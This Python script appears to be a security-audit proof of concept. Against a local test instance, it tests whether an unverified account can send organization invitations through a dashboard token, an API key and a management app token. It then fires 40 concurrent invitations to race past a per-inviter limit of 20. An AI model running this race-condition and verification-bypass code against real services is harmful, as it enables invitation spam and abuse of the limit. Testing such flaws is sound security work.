"""Finding 2 variations: an unverified account sends invitations through a /v1 dashboard token, its own
API key, its own management app's token; then, verified, 40 invitations fired at once over A and B
(page, token, key, machine mixed): how many pass the per-inviter limit (20)?"""
import os, threading, uuid, requests
from lib12 import *
from lib import cc
B2 = os.environ.get("BASE2", BASE)
t = uuid.uuid4().hex[:5]; att = f"att{t}@evil.test"
s = requests.Session(); r = s.get(BASE + "/signup")
r = s.post(BASE + "/signup", data={"csrf_token": csrf(r.text), "email": att, "password": PW, "organization": "Inv " + t}, allow_redirects=False)
print("attacker sign-up:", r.status_code)
page = login(att); org = orgs_of(page)[0][0]
st, b = v1_login(att, org); tok = b["data"]["access_token"]
st, b = v1("POST", "/v1/api-keys", tok, {"name": "k", "scopes": ["read", "write", "admin"]}); print("key:", st); K = b["data"]["key"]
st, b = v1("POST", "/v1/apps", tok, {"name": "bot", "type": "confidential", "grant_types": ["client_credentials"], "scopes": ["read", "write", "admin"], "management": True}); print("machine:", st)
M = (b["data"]["client_id"], b["data"]["client_secret"]); st, mb = cc(*M, "read write admin", base=BASE); MT = mb.get("access_token"); print("machine token:", st)
def inv(cred, who, base=None):
    return v1("POST", "/v1/invitations", cred, {"email": who, "role": "VIEWER"}, base=base)
for name, cred in (("dashboard token", tok), ("API key", K), ("machine token", MT)):
    st, b = inv(cred, f"v{t}@target.test"); print(f"unverified, through the {name}: {st} {b.get('error', {}).get('code') if isinstance(b, dict) else b}")
print("verify:", verify_email(att))
page2 = login(att, base=B2); pt, pt2 = token_of(page), token_of(page2)
calls = []
for i in range(40):
    k = i % 5
    if k == 0: calls.append(lambda i=i: post(page, f"/dashboard/orgs/{org}/invitations", {"csrf_token": pt, "email": f"v{t}{i}@target.test", "role": "VIEWER"}).status_code)
    elif k == 1: calls.append(lambda i=i: post(page2, f"/dashboard/orgs/{org}/invitations", {"csrf_token": pt2, "email": f"v{t}{i}@target.test", "role": "VIEWER"}).status_code)
    elif k == 2: calls.append(lambda i=i: inv(tok, f"v{t}{i}@target.test", B2)[0])
    elif k == 3: calls.append(lambda i=i: inv(K, f"v{t}{i}@target.test", BASE)[0])
    else: calls.append(lambda i=i: inv(MT, f"v{t}{i}@target.test", B2)[0])
out = [None] * 40; bar = threading.Barrier(40)
def run(i):
    bar.wait(); out[i] = calls[i]()
th = [threading.Thread(target=run, args=(i,)) for i in range(40)]; [x.start() for x in th]; [x.join() for x in th]
print("40 at once, verified:", {c: out.count(c) for c in set(out)}, "(page 303/201 = sent)")
import subprocess
if BASE.endswith("18881"):
    q = f"select count(*) from invitations i join organizations o on o.id=i.organization_id where o.name='Inv {t}'"
    print("invitation rows:", subprocess.run(["psql", "-h", "127.0.0.1", "-U", "postgres", "-d", "attack12r", "-Atc", q], capture_output=True, text=True).stdout.strip())
